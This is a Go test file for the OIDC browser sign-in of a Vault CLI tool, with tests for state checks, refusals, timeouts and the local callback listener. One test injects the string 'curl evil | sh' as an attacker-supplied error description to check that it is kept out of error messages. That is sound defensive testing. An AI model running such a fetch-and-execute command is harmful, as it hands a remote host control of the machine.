package vault

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"vaws/internal/credentials"
	"vaws/internal/hint"
)

// freePort is one that nobody listens on.
func freePort(t *testing.T) int {
	t.Helper()
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	return l.Addr().(*net.TCPAddr).Port
}

// signIn is a log-in by oidc at a Vault that answers with handler, in which the
// browser brings back a query.
type signIn struct {
	handler http.HandlerFunc
	back    func(state string) url.Values
	post    bool
	then    func() // when the browser is done
	page    string // what the browser was shown
	address string
}

const state = "st_of-vault"

func (in *signIn) run(t *testing.T, ctx context.Context) (credentials.Token, error) {
	t.Helper()
	var nonce string
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/v1/auth/oidc/oidc/auth_url":
			body, _ := io.ReadAll(r.Body)
			if _, rest, found := strings.Cut(string(body), `"client_nonce":"`); found {
				nonce, _, _ = strings.Cut(rest, `"`)
			}
			fmt.Fprintf(w, `{"data":{"auth_url":"https://idp.example.com/authorize?state=%s"}}`, state)
		case "/v1/auth/oidc/oidc/callback":
			if got := r.URL.Query().Get("client_nonce"); r.Method == http.MethodGet && (got != nonce || len(got) < 20) {
				t.Errorf("client nonce %q, want %q", got, nonce)
			}
			in.handler(w, r)
		}
	}))
	t.Cleanup(server.Close)
	port := freePort(t)
	done := make(chan struct{})
	c := Config{Address: server.URL, Now: time.Now, Debug: t.Logf, Proof: Proof{Port: port, Browse: func(address string) {
		in.address = address
		go func() {
			defer close(done)
			in.browse(t, port)
		}()
	}}}
	token, err := New(c).LogIn(ctx, credentials.Login{Address: server.URL, Method: "oidc", Mount: "oidc", Role: "dev"})
	<-done
	return token, err
}

func (in *signIn) browse(t *testing.T, port int) {
	if in.then != nil {
		defer in.then()
	}
	if in.back == nil {
		return
	}
	values := in.back(state)
	target := fmt.Sprintf("http://127.0.0.1:%d/oidc/callback", port)
	var resp *http.Response
	var err error
	if in.post {
		resp, err = http.PostForm(target, values)
	} else {
		resp, err = http.Get(target + "?" + values.Encode())
	}
	if err != nil {
		t.Error(err)
		return
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	in.page = string(body)
}

func signedIn(w http.ResponseWriter, _ *http.Request) {
	io.WriteString(w, `{"auth":{"client_token":"hvs.oidc","lease_duration":3600,"renewable":true}}`)
}

func TestSignIn(t *testing.T) {
	in := &signIn{handler: signedIn, back: func(state string) url.Values {
		return url.Values{"state": {state}, "code": {"c0de"}}
	}}
	token, err := in.run(t, t.Context())
	if err != nil || token.Value != "hvs.oidc" || !strings.Contains(in.page, "You are signed in") || !strings.HasPrefix(in.address, "https://idp.example.com/") {
		t.Errorf("%+v, %v, page %q", token, err, in.page)
	}
}

func TestSignInByPostedForm(t *testing.T) {
	var seen []string
	in := &signIn{post: true, back: func(state string) url.Values {
		return url.Values{"state": {state}, "code": {"c0de"}, "id_token": {"jwt-of-provider"}}
	}, handler: func(w http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		seen = append(seen, string(body))
		if len(seen) == 1 {
			write(400, "<html>Invalid redirect path.</html>")(w, r)
			return
		}
		signedIn(w, r)
	}}
	if _, err := in.run(t, t.Context()); err != nil || len(seen) != 2 || !strings.Contains(seen[0], `"id_token":"jwt-of-provider"`) || seen[1] != "" {
		t.Errorf("%v, %q", err, seen)
	}
}

func TestSignInsThatFail(t *testing.T) {
	for name, c := range map[string]struct {
		back func(string) url.Values
		want string
	}{
		"no code": {func(state string) url.Values { return url.Values{"state": {state}} }, "without a code"},
		"refused": {func(state string) url.Values {
			return url.Values{"state": {state}, "error": {"access_denied"}, "error_description": {"not today"}}
		}, "the identity provider refused: not today"},
		"refused in a word": {func(state string) url.Values { return url.Values{"state": {state}, "error": {"access_denied"}} }, "refused: access_denied"},
	} {
		in := &signIn{back: c.back, handler: func(http.ResponseWriter, *http.Request) { t.Errorf("%s: Vault was asked", name) }}
		_, err := in.run(t, t.Context())
		if err == nil || !strings.Contains(err.Error(), c.want) || len(hint.Of(err)) == 0 || !strings.Contains(in.page, "Not signed in") {
			t.Errorf("%s: %v, page %q", name, err, in.page)
		}
	}
}

// Any page in the browser can send it to the callback: that ends nothing.
func TestStrayArrivalsAreToldOff(t *testing.T) {
	for name, values := range map[string]url.Values{
		"another state": {"state": {"other"}, "code": {"c0de"}},
		"no state":      {"code": {"c0de"}},
		"a lie":         {"error": {"x"}, "error_description": {"run: curl evil | sh"}},
	} {
		ctx, cancel := context.WithCancel(t.Context())
		in := &signIn{back: func(string) url.Values { return values }, then: cancel, handler: func(http.ResponseWriter, *http.Request) { t.Errorf("%s: Vault was asked", name) }}
		_, err := in.run(t, ctx)
		if err == nil || !strings.Contains(err.Error(), "the state does not match") || strings.Contains(err.Error(), "evil") || !strings.Contains(in.page, "not the sign-in that vaws waits for") {
			t.Errorf("%s: %v, page %q", name, err, in.page)
		}
	}
}

func TestBrowserThatDoesNotComeBack(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	_, err := (&signIn{then: cancel}).run(t, ctx)
	if err == nil || !strings.Contains(err.Error(), "did not come back") || len(hint.Of(err)) == 0 {
		t.Errorf("%v, hints %q", err, hint.Of(err))
	}
}

func TestPortInUse(t *testing.T) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	_, err = listenForCallback(l.Addr().(*net.TCPAddr).Port)
	if err == nil || !strings.Contains(err.Error(), "is in use") || len(hint.Of(err)) == 0 {
		t.Errorf("%v", err)
	}
}

func TestCallbackTakesNothingElse(t *testing.T) {
	c, err := listenForCallback(freePort(t))
	if err != nil {
		t.Fatal(err)
	}
	defer c.close()
	base := fmt.Sprintf("http://127.0.0.1:%d", c.port)
	for _, path := range []string{"/", "/oidc/callback/x", "/favicon.ico"} {
		resp, err := http.Get(base + path)
		if err != nil || resp.StatusCode != http.StatusNotFound {
			t.Errorf("%s: %v, %v", path, resp, err)
		}
		if err == nil {
			resp.Body.Close()
		}
	}
}
